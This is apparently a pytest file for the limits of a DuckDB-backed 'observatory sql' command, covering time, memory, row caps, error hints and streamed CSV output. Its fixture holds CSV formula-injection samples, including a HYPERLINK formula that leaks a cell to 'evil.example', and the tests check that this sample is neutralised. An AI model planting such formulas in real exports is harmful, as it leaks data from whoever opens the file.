"""Limits of `observatory sql`: time, memory, rows and threads ([sql]), streamed CSV, DuckDB's
hints kept on one line, and CSV cells that spreadsheets would run as formulas neutralised.

The published database is a small one built here with plain DuckDB (20,000 flows in `core`),
not by the pipeline: the limits do not depend on what the tables hold.
"""

from __future__ import annotations

import io
import subprocess
import sys
import textwrap
import time
from dataclasses import dataclass
from pathlib import Path

import duckdb
import pytest

from observatory.cli import main
from observatory.config import Config, SqlConfig, load_config
from observatory.errors import QueryLimitReached, WarehouseError
from observatory.sqlshell import CsvWriter, RowCollector, format_csv, run_query
from tests.conftest import REPO, write_config

FLOWS = 20_000
CROSS_JOIN = ("select count(*) from core.trade_flows a, core.trade_flows b, "
              "core.trade_flows c")


@dataclass(frozen=True)
class Published:
    cfg: Config
    config: str  # the configuration file, for the CLI


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Published:
    folder = tmp_path_factory.mktemp("sql_limits")
    cfg = load_config(write_config(folder))
    cfg.warehouse.published.parent.mkdir(parents=True)
    with duckdb.connect(str(cfg.warehouse.published)) as con:
        con.execute("create schema core")
        con.execute(f"""
            create table core.trade_flows as
            select i as flow_id, 2019 + i % 6 as year, lpad((i % 5300)::varchar, 6, '0') as hs6,
                   (i % 997) * 1000.5 as value_usd
            from range({FLOWS}) t(i)""")
        con.execute("""
            create table core.notes as
            select * from (values
                (1, '=HYPERLINK("http://evil.example/?leak="&A1, "click")', -5,
                 -5.5::decimal(4, 1)),
                (2, '+33 6 12 34 56 78', 7, 0.0::decimal(4, 1)),
                (3, '-5', -12, 1.5::decimal(4, 1)),
                (4, '@SUM(A1:A2)', 0, -0.5::decimal(4, 1)),
                (5, e'\\tindented', 1, 1.0::decimal(4, 1)),
                (6, e'\\rreturn', 1, 1.0::decimal(4, 1)),
                (7, 'plain = text', 1, 1.0::decimal(4, 1)),
                (8, null, null, null)
            ) t(note_id, note, n, amount)""")
    return Published(cfg, str(cfg.path))


def limits(**changes: object) -> SqlConfig:
    from dataclasses import replace

    return replace(SqlConfig(), **changes)  # type: ignore[arg-type]


def test_committed_limits_are_the_documented_defaults() -> None:
    sql = load_config(REPO / "observatory.toml").sql
    assert sql == SqlConfig(timeout_seconds=60.0, memory_limit="1GB", max_rows=10_000, threads=1)


# --- time ------------------------------------------------------------------------------------


def test_a_cross_join_is_stopped_by_the_time_limit(published: Published) -> None:
    started = time.monotonic()
    with pytest.raises(QueryLimitReached) as err:
        run_query(published.cfg.warehouse.published, CROSS_JOIN,
                  limits=limits(timeout_seconds=1))
    elapsed = time.monotonic() - started
    assert 1.0 <= elapsed < 4.0  # 8e12 rows: without the limit it would run for hours
    assert str(err.value).startswith("stopped after 1 s (sql.timeout_seconds)")


def test_the_time_limit_also_stops_a_query_whose_rows_are_flowing(published: Published) -> None:
    """A cross join that streams rows (no aggregate) is interrupted between fetches too."""
    out = io.StringIO()
    writer = CsvWriter(out)
    started = time.monotonic()
    with pytest.raises(QueryLimitReached, match=r"^stopped after 1\.5 s \(sql\.timeout_seconds\)"):
        run_query(published.cfg.warehouse.published,
                  "select a.flow_id, b.flow_id from core.trade_flows a, core.trade_flows b",
                  limits=limits(timeout_seconds=1.5, max_rows=10**12), writer=writer)
    assert time.monotonic() - started < 4.5
    assert 0 < writer.row_count < FLOWS * FLOWS  # rows were written as they came, then it stopped


def test_the_cli_names_the_time_limit_on_one_line(
    published: Published, capsys: pytest.CaptureFixture[str]
) -> None:
    started = time.monotonic()
    assert main(["--config", published.config, "sql", CROSS_JOIN, "--timeout", "1"]) == 1
    assert time.monotonic() - started < 6.0
    captured = capsys.readouterr()
    assert captured.err.startswith("observatory: error: stopped after 1 s (sql.timeout_seconds)")
    assert captured.err.count("\n") == 1 and captured.out == ""


# --- memory ----------------------------------------------------------------------------------


def test_a_query_needing_more_memory_than_the_limit_is_stopped(published: Published) -> None:
    with pytest.raises(QueryLimitReached) as err:
        run_query(published.cfg.warehouse.published,
                  "select list(i order by i desc) as l from range(20000000) t(i)",
                  limits=limits(memory_limit="50MB"))
    assert str(err.value) == "stopped: the query needs more than 50MB (sql.memory_limit)"
    # Nothing spilled beside the published database (DuckDB's default temp directory).
    assert not Path(f"{published.cfg.warehouse.published}.tmp").exists()


def test_the_same_query_passes_under_a_larger_limit(published: Published) -> None:
    """The control of the test above: the query itself is sound, only the limit stops it."""
    columns, rows = run_query(published.cfg.warehouse.published,
                              "select len(list(i order by i desc)) as n "
                              "from range(2000000) t(i)", limits=limits(memory_limit="1GB"))
    assert (columns, rows) == (["n"], [(2_000_000,)])


def test_the_limits_are_applied_and_locked(published: Published) -> None:
    columns, rows = run_query(
        published.cfg.warehouse.published,
        "select current_setting('memory_limit'), current_setting('threads'), "
        "current_setting('temp_directory'), current_setting('lock_configuration'), "
        "current_setting('enable_progress_bar')",
        limits=limits(memory_limit="512MiB", threads=1))
    assert rows == [("512.0 MiB", 1, "", True, False)]


# --- rows ------------------------------------------------------------------------------------


def test_the_row_cap_stops_at_n_rows_and_says_so(
    published: Published, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--config", published.config, "sql",
                 "select flow_id from core.trade_flows order by flow_id",
                 "--format", "csv", "--max-rows", "25"]) == 0
    captured = capsys.readouterr()
    assert captured.out.splitlines() == ["flow_id"] + [str(i) for i in range(25)]
    assert captured.err == ("observatory: stopped at 25 rows (sql.max_rows); "
                            "add LIMIT or --max-rows\n")


def test_the_configured_row_cap_applies_to_the_table_format(
    tmp_path: Path, published: Published, capsys: pytest.CaptureFixture[str]
) -> None:
    config = write_config(tmp_path, max_rows=12_345, published=str(
        published.cfg.warehouse.published))
    assert main(["--config", str(config), "sql", "select flow_id, hs6 from core.trade_flows "
                                                 "order by flow_id"]) == 0
    captured = capsys.readouterr()
    lines = captured.out.splitlines()
    assert len(lines) == 2 + 12_345 + 1 and lines[-1] == "(12345 rows)"
    assert lines[2].split() == ["0", "000000"]
    assert lines[-2].split() == ["12344", "001744"]  # hs6: 12,344 mod 5,300
    assert captured.err == ("observatory: stopped at 12,345 rows (sql.max_rows); "
                            "add LIMIT or --max-rows\n")


def test_exactly_n_rows_is_not_reported_as_stopped(
    published: Published, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--config", published.config, "sql",
                 "select flow_id from core.trade_flows order by flow_id limit 25",
                 "--format", "csv", "--max-rows", "25"]) == 0
    captured = capsys.readouterr()
    assert len(captured.out.splitlines()) == 26 and captured.err == ""


def test_a_library_caller_learns_that_rows_were_cut(published: Published) -> None:
    collector = RowCollector()
    run_query(published.cfg.warehouse.published, "select flow_id from core.trade_flows "
              "order by flow_id", limits=limits(max_rows=7), writer=collector)
    assert collector.rows == [(i,) for i in range(7)] and collector.truncated


@pytest.mark.parametrize("option", [["--max-rows", "0"], ["--max-rows", "-3"],
                                    ["--timeout", "0"], ["--timeout", "nan"],
                                    ["--timeout", "inf"]])
def test_bad_overrides_are_refused(
    published: Published, capsys: pytest.CaptureFixture[str], option: list[str]
) -> None:
    with pytest.raises(SystemExit) as exit_:
        main(["--config", published.config, "sql", "select 1", *option])
    assert exit_.value.code == 2
    assert option[0] in capsys.readouterr().err


# --- DuckDB's hints --------------------------------------------------------------------------


def test_a_misspelled_table_gets_duckdbs_hint_on_one_line(
    published: Published, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(WarehouseError) as err:
        run_query(published.cfg.warehouse.published, "select * from core.trade_flow")
    assert str(err.value) == ('Catalog Error: Table with name trade_flow does not exist!; '
                              'Did you mean "trade_flows"?')
    assert main(["--config", published.config, "sql", "select idd from core.trade_flows"]) == 1
    err_line = capsys.readouterr().err
    assert err_line.count("\n") == 1 and "LINE 1" not in err_line and "^" not in err_line
    assert 'Candidate bindings: "flow_id"' in err_line or '"flow_id"' in err_line


# --- CSV -------------------------------------------------------------------------------------


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(
    published: Published, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--config", published.config, "sql",
                 "select note, n, amount from core.notes order by note_id",
                 "--format", "csv"]) == 0
    import csv

    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows == [
        ["note", "n", "amount"],
        ["'=HYPERLINK(\"http://evil.example/?leak=\"&A1, \"click\")", "-5", "-5.5"],
        ["'+33 6 12 34 56 78", "7", "0.0"],
        ["'-5", "-12", "1.5"],  # text stays text; numbers (even negative) stay numbers
        ["'@SUM(A1:A2)", "0", "-0.5"],
        ["'\tindented", "1", "1.0"],
        ["'\rreturn", "1", "1.0"],
        ["plain = text", "1", "1.0"],
        ["", "", ""],
    ]


def test_format_csv_neutralises_text_only() -> None:
    assert format_csv(["=cmd", "n"], [("=HYPERLINK(\"x\")", -5), (-5.25, "-5")]) == (
        "'=cmd,n\n\"'=HYPERLINK(\"\"x\"\")\",-5\n-5.25,'-5\n")


def test_a_carriage_return_inside_a_cell_is_quoted() -> None:
    """Python's csv quotes only the characters of its line terminator ("\n" here): a bare
    "\r" left unquoted would start a new spreadsheet row, here one holding a formula."""
    assert format_csv(["note", "n"], [("a\r=1+1", 1), ("b", 2), ("c\r\nd", 3)]) == (
        'note,n\n"a\r=1+1",1\nb,2\n"c\r\nd",3\n')


def test_csv_output_is_streamed_with_bounded_memory(published: Published,
                                                    tmp_path: Path) -> None:
    """A million rows go out as CSV while the process's peak memory barely moves: measured
    in a child process (ru_maxrss) after a first small query has loaded everything. The
    child's standard output is the CSV file itself, so anything DuckDB would print there
    (its progress bar, on by default under `python -c`) would show in the file."""
    out = tmp_path / "million.csv"
    script = textwrap.dedent(f"""
        import resource, sys
        from observatory.cli import main

        def peak_mib():
            return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024

        assert main(["--config", {published.config!r}, "sql",
                     "select current_setting('enable_progress_bar') as progress_bar",
                     "--format", "csv"]) == 0
        before = peak_mib()
        code = main(["--config", {published.config!r}, "sql",
                     "select i, i * 2 as twice, 'row ' || i as label from range(1000000) t(i)",
                     "--format", "csv", "--max-rows", "2000000"])
        print(code, before, peak_mib(), file=sys.stderr)
    """)
    with out.open("w", encoding="utf-8") as stdout:
        done = subprocess.run([sys.executable, "-c", script], stdout=stdout,
                              stderr=subprocess.PIPE, text=True, cwd=REPO, timeout=120,
                              check=False)
    assert done.returncode == 0, done.stderr
    code, before, after = done.stderr.split()
    assert code == "0"
    with out.open(encoding="utf-8") as lines:
        assert [next(lines), next(lines), next(lines)] == [
            "progress_bar\n", "False\n", "i,twice,label\n"]
        count = 0
        for count, line in enumerate(lines, start=1):  # noqa: B007
            last = line
    assert count == 1_000_000 and last == "999999,1999998,row 999999\n"
    # Measured: the code before (fetchall, then one CSV string) took 338 MiB more; streamed, 10.
    assert float(after) - float(before) < 40, (before, after)
